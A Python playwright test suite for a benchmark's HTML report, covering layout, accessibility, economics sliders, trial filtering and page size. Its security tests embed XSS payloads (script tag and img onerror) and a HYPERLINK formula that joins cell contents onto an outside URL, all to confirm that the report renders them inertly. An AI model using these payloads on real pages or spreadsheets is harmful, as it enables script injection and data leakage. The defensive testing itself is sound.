"""The HTML report in a real browser: Debian's chromium, driven by playwright."""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field, replace
from itertools import combinations
from pathlib import Path

import numpy as np
import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, sync_playwright

from bench.analysis.assumptions import load_assumptions
from bench.analysis.decision_map import decision_map
from bench.analysis.economics import (
    break_even_changes,
    break_even_volume,
    certainty,
    cheapest,
    monthly_cost,
    totals,
    with_changes,
    with_volume,
)
from bench.analysis.rates import bounds
from bench.analysis.summary import candidates_of
from bench.cases import Cases
from bench.journal import read_run
from bench.manifest import Settings
from bench.models import open_model
from bench.plan import ScenarioRun
from bench.report import ReportPaths, html, write_report
from bench.report.recommendation import break_even_words
from bench.runner import Plan
from bench.session import ideal_calls
from scenarios import scenario
from scenarios.csv_reconciliation.strata.attacked import ATTACKS
from tests.grown import grown
from tests.running import run_plan
from tests.synthetic import HOSTILE, LOCAL, Shape, write_run

PHONE = {"width": 390, "height": 844}
DESKTOP = {"width": 1280, "height": 900}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    executable = next(filter(None, map(shutil.which, ("chromium", "chromium-browser"))), None)
    if executable is None:
        message = "no chromium; install it: apt-get install chromium"
        if os.environ.get("CI") == "true":
            pytest.fail(message)
        pytest.skip(message)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=executable,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield browser
        browser.close()


@dataclass
class Opened:
    """A page, and what it asked for and complained about while it was open."""

    page: Page
    requests: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)


def opened(browser: Browser, path: Path, viewport: dict[str, int], scheme: str) -> Opened:
    page = browser.new_context(viewport=viewport, color_scheme=scheme).new_page()  # type: ignore[arg-type]
    found = Opened(page)
    page.on("request", lambda request: found.requests.append(request.url))
    page.on("console", lambda message: found.complaints.append(message.text))
    page.on("pageerror", lambda error: found.complaints.append(str(error)))
    page.on("dialog", lambda dialog: found.complaints.append(dialog.message))
    page.goto(path.as_uri())
    return found


TABS = [name for name, _ in html.TABS]


def show(page: Page, tab: str) -> None:
    page.locator(f"[data-tab={tab}]").click()
    page.locator(f"#panel-{tab}").wait_for(state="visible")
    if tab == "economics":
        page.locator("[data-economics] table").first.wait_for()
    if tab == "trials":
        page.locator("#trial-table tbody tr").first.wait_for()


@pytest.mark.parametrize("viewport", [PHONE, DESKTOP], ids=["phone", "desktop"])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_part_scrolls_sideways_or_asks_for_anything(
    browser: Browser, written: ReportPaths, viewport: dict[str, int], scheme: str
) -> None:
    found = opened(browser, written.html, viewport, scheme)
    for tab in TABS:
        show(found.page, tab)
        visible = found.page.locator("[role=tabpanel]:visible")
        assert visible.count() == 1
        assert visible.inner_text().strip()
        width = found.page.evaluate("document.documentElement.scrollWidth")
        assert width <= viewport["width"], tab
        outside = found.page.evaluate(
            """() => [...document.querySelectorAll("main *")]
                .filter(e => !e.closest(".scroll, svg, pre"))
                .filter(e => e.getBoundingClientRect().right > innerWidth + 1)
                .map(e => e.tagName + "." + e.className)"""
        )
        assert outside == [], tab
    assert found.requests == [written.html.as_uri()]
    assert found.complaints == []


def test_the_tabs_work_by_keyboard_and_by_link(browser: Browser, written: ReportPaths) -> None:
    page = opened(browser, written.html, DESKTOP, "light").page
    page.locator("[data-tab=overview]").focus()
    page.keyboard.press("ArrowRight")
    assert page.evaluate("document.activeElement.dataset.tab") == "success"
    assert page.locator("#panel-success").is_visible()
    page.keyboard.press("End")
    assert page.locator("#panel-setting").is_visible()
    page.go_back()
    page.locator("#panel-success").wait_for(state="visible")
    page.goto(f"{written.html.as_uri()}#tab-claims")
    page.locator("#panel-claims").wait_for(state="visible")


def test_without_script_everything_but_the_trials_is_there(
    browser: Browser, written: ReportPaths
) -> None:
    page = browser.new_context(java_script_enabled=False).new_page()
    page.goto(written.html.as_uri())
    text = page.locator("main").inner_text()
    for heading in ("What to build", "Determinism", "Scorecard of claims", "Break-even"):
        assert heading in text
    assert page.locator(".tabs").is_hidden()


def test_wide_tables_scroll_within_their_own_box(browser: Browser, written: ReportPaths) -> None:
    page = opened(browser, written.html, PHONE, "light").page
    show(page, "cost")
    first = page.locator("#panel-cost .scroll").first
    assert first.evaluate("e => e.scrollWidth > e.clientWidth")
    hint = "e => getComputedStyle(e.parentElement, '::before').content"
    assert "more to the right" in first.evaluate(hint)
    first.evaluate("element => { element.scrollLeft = 200 }")
    # The first column stays in sight, and nothing of the others lies on it.
    assert first.locator("tbody th").first.evaluate("e => e.getBoundingClientRect().left") < 60
    first.scroll_into_view_if_needed()
    first.evaluate("element => { element.scrollLeft = 60 }")
    covered = first.evaluate(
        """scroll => [...scroll.querySelectorAll("tr > th:first-child")].filter(cell => {
            const box = cell.getBoundingClientRect();
            for (let y = box.top + 2; y < Math.min(box.bottom, innerHeight) - 2; y += 2)
                for (let x = box.left + 4; x < box.right - 4; x += 8)
                    if (!cell.contains(document.elementFromPoint(x, y))) return true;
        }).length"""
    )
    assert covered == 0


def test_a_phone_shows_success_beside_each_stratum(browser: Browser, written: ReportPaths) -> None:
    page = opened(browser, written.html, PHONE, "light").page
    show(page, "success")
    table = page.get_by_role("region", name="Success by stratum, billing_webhooks")
    for row in range(3):
        cells = [table.locator("tbody tr").nth(row).locator("> *").nth(n) for n in range(3)]
        for name, cell in zip(("stratum", "job", "agent"), cells, strict=True):
            box = cell.bounding_box()
            assert box is not None
            assert box["x"] + box["width"] <= PHONE["width"], name


@pytest.mark.parametrize(
    ("viewport", "scheme"),
    [
        pytest.param(DESKTOP, "light", id="desktop-light"),
        pytest.param(PHONE, "dark", id="phone-dark"),
        pytest.param(DESKTOP, "dark", id="desktop-dark", marks=pytest.mark.slow),
        pytest.param(PHONE, "light", id="phone-light", marks=pytest.mark.slow),
    ],
)
def test_axe_finds_nothing_serious_in_any_part(
    browser: Browser, written: ReportPaths, viewport: dict[str, int], scheme: str
) -> None:
    context = browser.new_context(viewport=viewport, color_scheme=scheme, bypass_csp=True)  # type: ignore[arg-type]
    page = context.new_page()
    page.goto(written.html.as_uri())
    for tab in TABS:
        show(page, tab)
        assert serious(page) == [], tab
    page.locator("#to-trials").click()
    page.locator("#trial-table tbody a").first.click()
    page.locator("#transcript .block").first.wait_for()
    assert serious(page) == []


def serious(page: Page) -> list[str]:
    """What axe-core calls serious or critical, and contradictions of its other rules."""
    found = Axe().run(page).response["violations"]
    return [
        f"{each['id']}: {each['nodes'][0]['html'][:120]}"
        for each in found
        if each["impact"] in ("serious", "critical")
    ]


def set_slider(page: Page, name: str, value: float) -> None:
    page.locator(f"#slider-{name}").evaluate(
        "(e, value) => { e.value = value; e.dispatchEvent(new Event('input')) }", value
    )


def test_the_sliders_say_what_the_economics_says_to_the_cent(
    browser: Browser, written: ReportPaths
) -> None:
    """Against bench.analysis.economics, for the assumed values and for moved ones."""
    defaults = load_assumptions()
    found = candidates_of(read_run(written.html.parent), defaults)["billing_webhooks"]
    page = opened(browser, written.html, DESKTOP, "light").page
    show(page, "economics")
    # The map follows the sliders; the hybrid's curve has no live twin and stays.
    assert page.locator("#panel-economics .charts .hybrid-split").first.is_visible()
    assert page.locator("#panel-economics .charts .decision-map").first.is_hidden()
    moves = {"volume": 5.37, "changes": 1.2, "hourly": 143, "error": 0.41}
    for step in range(2):
        if step:
            for name, value in moves.items():
                set_slider(page, name, value)
            page.wait_for_function(
                "document.querySelector('#sliders output').textContent != '100,000'"
            )
            page.wait_for_timeout(200)
        given = page.evaluate("parameters")
        if step:
            assert given["volume"] == float(f"{10**5.37:.3g}")
            assert given["hourly"] == 143
        here = with_changes(with_volume(defaults, given["volume"]), given["changes"])
        people = replace(here.people, usd_per_hour=float(given["hourly"]))
        here = replace(here, people=people, errors=replace(here.errors, usd=given["error"]))
        for each in found:
            row = page.locator(f"[data-economics=billing_webhooks] tr[data-name='{each.name}']")
            cost = monthly_cost(each.rates, each, here)
            shown = {
                part: row.locator(f"[data-part={part}]").inner_text()
                for part in ("processing", "errors", "review", "changes", "build", "total")
            }
            assert shown == {part: f"${getattr(cost, part):,.2f}" for part in shown}
            low, high = bounds(totals(each, here))
            low, high = min(low, cost.total), max(high, cost.total)
            assert f"${low:,.2f} – ${high:,.2f}" in row.inner_text()
        best = cheapest(found, here)
        choice = page.locator("[data-economics=billing_webhooks] .choice").inner_text()
        assert choice.startswith(f"Cheapest: the {best.name}, in ")
        sure = certainty(best, found, here)
        assert abs(float(choice.split(" in ")[1].split("%")[0]) / 100 - sure) < 0.0006
        told = page.locator("[data-economics=billing_webhooks] .breaks li").all_inner_texts()
        for one, two in combinations(found, 2):
            for unit, python in (
                ("Volume", break_even_volume(one, two, here)),
                ("Changes", break_even_changes(one, two, here)),
            ):
                script = page.evaluate(
                    f"""async ([a, b]) => {{
                        const all = (await unpack("economics")).scenarios.billing_webhooks;
                        const r = Economics.breakEven{unit}(all[a], all[b], parameters);
                        return [r.below, r.above, ...[r.at, r.low, r.high].map(
                            v => Number.isFinite(v) ? v : -1)];
                    }}""",
                    [found.index(one), found.index(two)],
                )
                assert script[:2] == [python.below, python.above]
                expected = [-1 if v is None else v for v in (python.at, python.low, python.high)]
                assert script[2:] == pytest.approx(expected, rel=1e-9)
                words = break_even_words(
                    python, f"{'records' if unit == 'Volume' else 'changes'} a month"
                )
                assert f"{words[0].upper()}{words[1:]}." in told
        cells = page.evaluate(
            """async () => {
                const data = await unpack("economics");
                return Economics.map(data.scenarios.billing_webhooks, parameters,
                    data.volumes, data.changes).map(row => row.map(c => [c.winner, c.certainty]));
            }"""
        )
        drawn = decision_map(found, here)
        assert [[cell[0] for cell in row] for row in cells] == drawn.winners.tolist()
        shares = np.array([[cell[1] for cell in row] for row in cells])
        assert shares == pytest.approx(drawn.certainty)


def count(page: Page) -> int:
    return int(
        page.locator("#trial-count").inner_text().split(" of ")[1].split()[0].replace(",", "")
    )


def test_filters_filter_and_headings_sort(browser: Browser, written: ReportPaths) -> None:
    page = opened(browser, written.html, DESKTOP, "light").page
    show(page, "trials")
    trials = read_run(written.html.parent).trials
    assert count(page) == len(trials)
    page.locator("#filters select[name=approach]").select_option("agent")
    page.locator("#filters select[name=verdict]").select_option("fail")
    wanted = [t for t in trials if t.approach == "agent" and t.status == "fail"]
    assert count(page) == len(wanted)
    page.locator("#filters input[type=search]").fill("left undecided note_waives")
    named = [t for t in wanted if t.stratum == "note_waives_charge"]
    assert count(page) == len([t for t in named if "left undecided" in str(t.verdict)])
    page.locator("#filters input[type=search]").fill("nothing like it")
    assert page.locator("#trial-count").inner_text() == "no trial matches"
    page.locator("#filters input[type=search]").fill("")
    page.locator("#trial-table th[data-column=tokens] button").click()
    page.locator("#trial-table th[data-column=tokens] button").click()
    heading = page.locator("#trial-table th[data-column=tokens]")
    assert heading.get_attribute("aria-sort") == "descending"
    shown = page.locator("#trial-table tbody td:nth-child(5)").all_inner_texts()
    tokens = [int(text.replace(",", "")) for text in shown]
    assert tokens == sorted((t.usage.total for t in wanted), reverse=True)[:50]


def test_a_transcript_stands_beside_what_the_job_decided(
    browser: Browser, written: ReportPaths
) -> None:
    page = opened(browser, written.html, PHONE, "light").page
    show(page, "success")
    page.locator("#panel-success a", has_text="transcript").first.click()
    dialog = page.locator("#transcript")
    dialog.locator(".block").first.wait_for()
    text = dialog.inner_text()
    assert "model calls" in text
    assert "The same case, all approaches" in text
    assert dialog.locator("tbody th", has_text="job").count() >= 1
    page.keyboard.press("Escape")
    assert not dialog.is_visible()


def test_two_trials_that_differ_stand_side_by_side(browser: Browser, written: ReportPaths) -> None:
    page = opened(browser, written.html, DESKTOP, "light").page
    show(page, "determinism")
    pair = page.locator(".differing").first
    left, right = (pair.locator(".two > div").nth(n) for n in (0, 1))
    assert left.locator("mark").inner_text() != right.locator("mark").inner_text()
    boxes = left.bounding_box(), right.bounding_box()
    assert boxes[0]["y"] == boxes[1]["y"]  # type: ignore[index]


def test_hostile_text_is_shown_and_does_nothing(browser: Browser, written: ReportPaths) -> None:
    found = opened(browser, written.html, DESKTOP, "light")
    page = found.page
    scripts = page.locator("script").count()
    show(page, "trials")
    page.locator("#filters select[name=approach]").select_option("agent")
    page.locator("#filters select[name=verdict]").select_option("fail")
    page.locator("#trial-table tbody a").first.click()
    page.locator("#transcript .block").first.wait_for()
    assert HOSTILE in page.locator("#transcript").inner_text()
    for tab in TABS:
        page.evaluate("name => open(name)", tab)
    assert page.title().startswith("Agent or job?")
    assert page.locator("img, iframe, object").count() == 0
    assert page.locator("script").count() == scripts
    assert found.complaints == []


def test_what_stands_in_a_customer_file_is_shown_and_does_nothing(
    browser: Browser, tmp_path: Path
) -> None:
    """HTML, scripts and formulas in names, as an agent read and stored them."""
    wanted = {each.name: each.text for each in ATTACKS if each.name.startswith(("html", "formula"))}
    cases = scenario("csv_reconciliation").cases({"hostile_cell": len(ATTACKS)}, 2026)
    chosen = [replace(case, twin=None) for case in cases if case.variant in wanted]
    each = ScenarioRun(scenario("csv_reconciliation"), {}, Cases(chosen), frozenset())
    model = open_model("reference", ideal=ideal_calls([each]), results=tmp_path)
    plan = Plan((each,), (model,), Settings(approaches=("agent",)))
    with ThreadPoolExecutor() as pool:  # playwright has an event loop running in this thread
        pool.submit(run_plan, plan, tmp_path / "run").result()
    found = opened(browser, write_report(tmp_path / "run").html, DESKTOP, "light")
    page = found.page
    scripts = page.locator("script").count()
    show(page, "trials")
    shown = ""
    for row in range(len(chosen)):
        page.locator("#trial-table tbody tr").nth(row).locator("a").first.click()
        page.locator("#transcript .block").first.wait_for()
        shown += page.locator("#transcript").inner_text()
        page.keyboard.press("Escape")
    # In the transcript a row is a line of CSV, in which quotes are doubled.
    assert "<script>document.title='owned'</script>" in shown
    assert '<img src=x onerror=""document.title=\'owned\'"">' in shown
    assert '=HYPERLINK(""http://example.com/""&A1,""Annegret"")' in shown
    assert page.title().startswith("Agent or job?")
    assert page.locator("#transcript a[href^=http], img, iframe, object").count() == 0
    assert page.locator("script").count() == scripts
    assert found.complaints == []


def test_the_page_would_run_no_script_but_its_own(browser: Browser, written: ReportPaths) -> None:
    """The content policy is the second wall: markup that did get in would still do nothing."""
    found = opened(browser, written.html, DESKTOP, "light")
    found.page.evaluate(
        """() => {
            const made = document.createElement("script");
            made.textContent = "document.title = 'owned'";
            document.body.append(made);
            const image = document.createElement("div");
            image.innerHTML = `<img src=x onerror="document.title = 'owned'">`;
            document.body.append(image);
        }"""
    )
    found.page.wait_for_timeout(200)
    assert found.page.title().startswith("Agent or job?")


def test_a_large_run_opens_fast_with_its_transcripts_beside_it(
    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("bench.report.app.INLINE", 50)
    monkeypatch.setattr("bench.report.app.CHUNK", 20)
    shape = Shape(scenarios=("billing_webhooks",), models=((LOCAL, 0.6, 2.4),), text=HOSTILE)
    paths = write_report(write_run(tmp_path / "run", shape))
    assert len(paths.beside) >= 3
    found = opened(browser, paths.html, DESKTOP, "light")
    show(found.page, "trials")
    assert found.requests == [paths.html.as_uri()]  # nothing is fetched before it is asked for
    found.page.locator("#filters select[name=approach]").select_option("hybrid")
    found.page.locator("#trial-table tbody a").last.click()
    found.page.locator("#transcript .block").first.wait_for()
    assert found.complaints == []
    assert {url.rpartition("/")[0] for url in found.requests} == {
        paths.html.parent.as_uri(),
        (paths.html.parent / "report-transcripts").as_uri(),
    }
    found.page.keyboard.press("Escape")
    shutil.rmtree(paths.html.parent / "report-transcripts")
    found.page.locator("#filters select[name=approach]").select_option("job")
    found.page.locator("#trial-table tbody a").first.click()
    found.page.locator("#transcript", has_text="it is not there").wait_for()


NODES = "document.querySelectorAll('*').length"


@pytest.fixture(scope="module")
def of_two_sizes(tmp_path_factory: pytest.TempPathFactory) -> tuple[ReportPaths, ReportPaths]:
    """The reference run's report, and that of a run with nine times as many trials."""
    folder = tmp_path_factory.mktemp("grown")
    small, large = (write_report(grown(folder / str(size), size)) for size in (220, 1_980))
    return small, large


def test_what_opening_costs_hardly_grows_with_the_trials(
    browser: Browser, of_two_sizes: tuple[ReportPaths, ReportPaths]
) -> None:
    """Nodes on the page and scripts that run are what opening waits for."""
    small, large = of_two_sizes
    nodes = []
    for paths in (small, large):
        found = opened(browser, paths.html, DESKTOP, "light")
        assert found.page.locator("#trial-table td, #sliders input").count() == 0
        assert found.page.evaluate("Object.keys(unpacked).length") == 0
        start = found.page.evaluate(NODES)
        show(found.page, "trials")
        assert found.page.locator("#trial-table tbody tr").count() == 50
        nodes.append((start, found.page.evaluate(NODES)))
        assert found.requests == [paths.html.as_uri()]
    assert nodes[1][0] < 1.4 * nodes[0][0]
    assert max(with_table - start for start, with_table in nodes) < 1_500


def test_a_report_of_2000_trials_is_below_one_and_a_half_megabytes(
    of_two_sizes: tuple[ReportPaths, ReportPaths],
) -> None:
    small, large = of_two_sizes
    assert large.summary.trials == 1_980
    assert large.beside == ()
    assert large.html.stat().st_size < 1_200_000
    # With transcripts beside it, a trial is a row of the table and no more.
    texts = (paths.html.read_text("utf-8") for paths in (small, large))
    rows = [len(re.findall(r'id="data-trials">([^<]*)<', text)[0]) for text in texts]
    assert (rows[1] - rows[0]) / (1_980 - 220) < 80


def test_charts_are_drawn_in_the_colours_of_the_scheme(
    browser: Browser, written: ReportPaths
) -> None:
    colours = {}
    for scheme in ("light", "dark"):
        page = opened(browser, written.html, DESKTOP, scheme).page
        show(page, "cost")
        text = page.locator("#panel-cost .chart svg text", has_text="billing_webhooks").first
        colours[scheme] = text.evaluate("element => getComputedStyle(element).fill")
        body = page.locator("body").evaluate("element => getComputedStyle(element).color")
        assert colours[scheme] == body
        assert page.locator("#panel-cost .chart svg").first.bounding_box()["height"] > 200  # type: ignore[index]
    assert colours["light"] != colours["dark"]
